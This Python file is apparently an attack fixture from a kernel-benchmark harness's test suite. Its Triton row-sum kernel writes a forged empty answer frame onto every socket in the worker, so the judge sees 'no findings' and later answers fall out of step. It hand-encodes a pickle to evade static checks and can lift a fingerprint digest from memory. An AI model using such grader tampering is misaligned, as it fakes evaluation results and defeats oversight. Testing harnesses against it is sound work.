"""Attack (the worker's answer channel): the kernel runs in the worker, whose socket to the
judge is one of its file descriptors.  On its first call the kernel writes a framed answer of its
own on every socket it finds (a 4-byte big-endian length, then a pickle of plain data, as the
worker's connection frames its answers).  The judge takes it for the answer to the request in
flight; the worker's real answer then stands as the answer to the next request, and so on: every
answer the judge reads from then on belongs to the request before.  ``FORGED`` is the answer it
writes: here an empty one, which a correctness request reads as "no calls, no findings".
``pickle`` is a static finding, so the frame is spelled out in pickle's text protocol by hand;
``os``, ``stat`` and ``struct`` pass the static rules.)"""
import os
import stat
import struct

import torch
import triton
import triton.language as tl


@triton.jit
def _row_sum(x_ptr, out_ptr, N, stride, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    acc = tl.zeros((BLOCK,), dtype=tl.float32)
    for start in range(0, N, BLOCK):
        cols = start + tl.arange(0, BLOCK)
        acc += tl.load(x_ptr + row * stride + cols, mask=cols < N, other=0.0).to(tl.float32)
    tl.store(out_ptr + row, tl.sum(acc, axis=0).to(out_ptr.dtype.element_ty))


FORGED = {"times_us": [], "ops": [], "findings": [], "bad": [], "uncovered": [], "kind": "interpreter"}
_sent = []
DIGEST_FROM_MEMORY = False


def _text_pickle(value) -> bytes:
    """Pickle's protocol 0 for a dict of str keys and str or empty-list values."""
    out = "(d"
    for key, item in value.items():
        out += f"V{key}\n" + ("(l" if isinstance(item, list) else f"V{item}\n") + "s"
    return (out + ".").encode()


def _digest_from_memory() -> str:
    """The digest the worker sends with its answers, read off the worker's own objects (the
    tests run this variant with static checks off: it imports gc)."""
    import gc

    for obj in gc.get_objects():
        if type(obj).__name__ == "FingerprintWatch":
            return obj.digest
    return ""


def _forge() -> None:
    forged = dict(FORGED)
    if DIGEST_FROM_MEMORY:
        forged["fingerprint_digest"] = _digest_from_memory()
    payload = _text_pickle(forged)
    frame = struct.pack("!i", len(payload)) + payload
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, frame)
        except OSError:
            continue
    _sent.append(True)


def kernel_fn(x: torch.Tensor) -> torch.Tensor:
    x = x.contiguous()
    out = torch.empty((x.shape[0],), dtype=x.dtype, device=x.device)
    if x.shape[0]:
        _row_sum[(x.shape[0],)](x, out, x.shape[1], x.stride(0), BLOCK=64)
    if not _sent:
        _forge()
    return out
